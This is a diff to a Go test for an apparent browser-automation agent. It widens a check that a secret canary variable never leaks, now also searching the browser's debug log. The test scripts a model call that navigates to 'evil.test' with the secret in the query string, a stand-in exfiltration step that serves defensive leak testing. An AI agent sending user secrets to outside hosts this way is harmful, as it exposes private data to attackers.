@@ -6,6 +6,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"html"
+	"log/slog"
 	"net/http"
 	"net/http/httptest"
 	"net/url"
@@ -21,6 +22,7 @@ import (
 	"github.com/drover-go/drover/errtypes"
 	"github.com/drover-go/drover/internal/clock"
 	"github.com/drover-go/drover/internal/demosite"
+	"github.com/drover-go/drover/runs/browser/chrome"
 	"github.com/drover-go/drover/runs/browser/chrome/chrometest"
 	"github.com/drover-go/drover/runs/model"
 	"github.com/drover-go/drover/runs/model/scripted"
@@ -257,7 +259,11 @@ func TestValuesAreNowhere(t *testing.T) {
 		scripted.Call("navigate", map[string]string{"url": "https://evil.test/?%word%"}),
 		scripted.Turn{Do: tellAll},
 	)
-	w := start(t, setup{browser: chrometest.Provider(t), dir: dir, model: m})
+	browserLog := &logBuffer{}
+	p := chrometest.Provider(t, func(o *chrome.Options) {
+		o.Logger = slog.New(slog.NewTextHandler(browserLog, &slog.HandlerOptions{Level: slog.LevelDebug}))
+	})
+	w := start(t, setup{browser: p, dir: dir, model: m})
 	r := w.do(t, Create{
 		Task:      "Go to " + site.URL + "/echo?q=%word% and tell what is there",
 		Variables: map[string]Variable{"word": {Value: canary}},
@@ -275,7 +281,7 @@ func TestValuesAreNowhere(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	places := map[string]string{"requests and messages": string(raw), "log": w.log.String()}
+	places := map[string]string{"requests and messages": string(raw), "log": w.log.String(), "browser's log": browserLog.String()}
 	files, err := filepath.Glob(filepath.Join(dir, "*"))
 	if err != nil || len(files) < 2 {
 		t.Fatal(files, err)
